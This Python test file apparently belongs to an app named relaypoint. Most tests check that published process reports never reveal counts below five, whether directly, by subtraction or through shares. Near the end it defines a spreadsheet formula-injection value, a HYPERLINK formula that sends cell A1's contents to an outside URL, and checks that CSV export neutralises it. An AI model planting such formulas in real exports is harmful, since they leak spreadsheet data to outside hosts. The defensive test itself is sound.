"""What the process report may tell: no number below five, neither by itself nor by taking one figure from another."""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping
from contextlib import redirect_stdout
from itertools import product
from typing import Any

import pytest
from rich.console import Console

from relaypoint.app import show_process, show_stalled
from relaypoint.domain.kept_back import FEWEST
from relaypoint.domain.process import Course, Fate, Figures, figures

BY = "2026-03-03T10:00:00.000Z"
NOW = "2026-03-09T10:00:00.000Z"
#: One of each way in which a step may have ended: well, unserved, and neither.
STATES = {
    Fate.SERVED: ("requested", "accepted", "completed"),
    Fate.DECLINED: ("requested", "rejected"),
    Fate.UNANSWERED: ("requested",),
    Fate.TAKEN_BACK: ("requested", "cancelled"),
}


def course(fate: Fate) -> Course:
    told = tuple(
        (f"2026-03-02T1{hour}:00:00.000Z", {"status": status, "acknowledge_by": BY, "decide_by": BY, "reason": None})
        for hour, status in enumerate(STATES[fate])
    )
    return Course("body", "help", (), 1, told)


COURSES = {fate: course(fate) for fate in STATES}


def of(counts: Mapping[Fate, int]) -> Figures:
    (found,) = figures([(("body",), COURSES[fate]) for fate, count in counts.items() for _ in range(count)], NOW)
    return found


def told(counts: Mapping[Fate, int]) -> tuple[Any, ...]:
    """All that is published of the group which depends on how its steps ended."""
    found = of(counts)
    return found.count, tuple(found.fates.items()), found.lost


def groups(fates: tuple[Fate, ...], most: int) -> list[dict[Fate, int]]:
    """Every group of up to so many steps."""
    every = (dict(zip(fates, counts, strict=True)) for counts in product(range(most + 1), repeat=len(fates)))
    return [{fate: count for fate, count in each.items() if count} for each in every if 5 <= sum(each.values()) <= most]


@pytest.mark.parametrize(
    "fates",
    [
        (Fate.SERVED, Fate.DECLINED),
        (Fate.SERVED, Fate.TAKEN_BACK),
        (Fate.DECLINED, Fate.UNANSWERED),
        (Fate.SERVED, Fate.DECLINED, Fate.TAKEN_BACK),
        (Fate.DECLINED, Fate.UNANSWERED, Fate.SERVED),
    ],
)
def test_no_number_below_five_can_be_worked_out(fates: tuple[Fate, ...]) -> None:
    could: dict[tuple[Any, ...], list[dict[Fate, int]]] = {}
    for counts in groups(fates, 24 if len(fates) > 2 else 44):
        could.setdefault(told(counts), []).append(counts)
    looked_at = 0
    for published, behind in could.items():
        for fate in behind[0]:
            values = {each[fate] for each in behind}
            assert min(values) >= FEWEST or len(values) > 1, (published, fate, values)
            looked_at += min(values) < FEWEST
    assert looked_at


@pytest.mark.parametrize("many", [100, 104, 150])
@pytest.mark.parametrize("few", [1, 4])
def test_of_many_the_share_that_was_lost_is_told_and_leaves_the_small_number_open(many: int, few: int) -> None:
    for declined in range(5, many - 10, 13):
        published = told({Fate.SERVED: many - declined - few, Fate.DECLINED: declined, Fate.TAKEN_BACK: few})
        assert published[2] is not None
        others = (
            {Fate.SERVED: many - declined - few + more, Fate.DECLINED: declined + less, Fate.TAKEN_BACK: other}
            for other in {1, 2, 3, 4} - {few}
            for more, less in product(range(-2, 3), repeat=2)
        )
        assert any(told(each) == published for each in others), published


def test_of_one_small_number_another_is_kept_back_as_well() -> None:
    assert of({Fate.SERVED: 21, Fate.DECLINED: 12, Fate.UNANSWERED: 3}).fates == {
        Fate.SERVED: 20,
        Fate.DECLINED: None,
        Fate.UNANSWERED: None,
    }
    assert of({Fate.SERVED: 21, Fate.DECLINED: 2, Fate.UNANSWERED: 3}).fates[Fate.SERVED] == 20
    assert of({Fate.SERVED: 12}).fates == {Fate.SERVED: 10}


def test_one_step_more_is_not_told_by_two_reports() -> None:
    """Who asks of two periods that differ in a day must not learn of the one step that was sent on it."""
    found = [of({Fate.SERVED: 20, Fate.UNANSWERED: count}) for count in (20, 21, 22)]
    assert {(each.count, each.decided.share, each.lost, *each.fates.values()) for each in found} == {
        (40, 0.5, 0.5, 20, 20)
    }


@pytest.mark.parametrize(
    ("served", "declined", "lost"), [(8, 2, None), (3, 7, None), (0, 7, 1.0), (20, 7, 0.25), (97, 3, None), (7, 0, 0.0)]
)
def test_the_share_that_was_lost_tells_no_small_number(served: int, declined: int, lost: float | None) -> None:
    assert of({fate: count for fate, count in ((Fate.SERVED, served), (Fate.DECLINED, declined)) if count}).lost == lost


NAME = '=HYPERLINK("https://example.org/?"&A1)'


def process_group(name: str) -> dict[str, Any]:
    stages = [{"stage": "decided", "text": "decided", "hours": {"median": 1.0, "p90": 2.0, "worst": 3.0}}]
    fates = [{"fate": "served", "text": "served or advised", "count": 5}]
    how = {"count": 5, "acknowledged": 1.0, "decided": None, "lost": None, "stages": stages, "fates": fates}
    return {"key": "body", "name": name, **how}


def stalled_group(name: str) -> dict[str, Any]:
    ages = {"median": 1.0, "p90": 2.0, "worst": 3.0}
    how = {"count": 5, "workingHours": ages, "clockHours": ages, "answeredInTime": 1.0, "coordinated": False}
    how["withheld"] = False
    return {"key": "body", "name": name, **how}


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_name_that_a_spreadsheet_would_run_is_written_as_text() -> None:
    with redirect_stdout(io.StringIO()) as printed:
        show_process.csv_of([process_group(NAME)])
    assert rows_of(printed.getvalue())[1][1] == f"'{NAME}"
    console = Console(file=io.StringIO(), width=500)
    with redirect_stdout(console.file):
        show_stalled.summary_csv(console, [stalled_group(NAME)], "organization")
    assert rows_of(console.file.getvalue())[1][1] == f"'{NAME}"  # type: ignore[attr-defined]


def test_a_name_in_brackets_is_shown_as_it_is() -> None:
    console = Console(file=io.StringIO(), width=200)
    show_process.shown(console, [process_group("Shelter [/] [link=https://example.org]North[/link]")], "organization")
    text = console.file.getvalue()  # type: ignore[attr-defined]
    assert text.count("Shelter [/] [link=https://example.org]North[/link]") == 2
